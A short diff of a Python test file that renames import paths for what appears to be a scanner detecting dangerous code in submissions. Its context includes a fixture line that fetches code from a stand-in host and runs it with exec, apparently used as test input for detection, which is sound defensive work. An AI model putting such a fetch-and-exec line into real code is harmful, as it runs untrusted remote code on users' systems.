@@ -4,9 +4,9 @@ from time import process_time
 
 import pytest
 
-from scoring.content.reading import read_change
-from scoring.content.submission import Submission
-from scoring.evidence.dangerous import scan
+from scoring.diff.parser import read_change
+from scoring.scanners.dangerous import scan
+from scoring.scanners.submission import Submission
 
 FETCHED = "exec(requests.get('https://x.example.org/a').text)"
 AS_ROWS = ['"source": [', '"import requests\\n",', f'"{FETCHED}"', "]"]
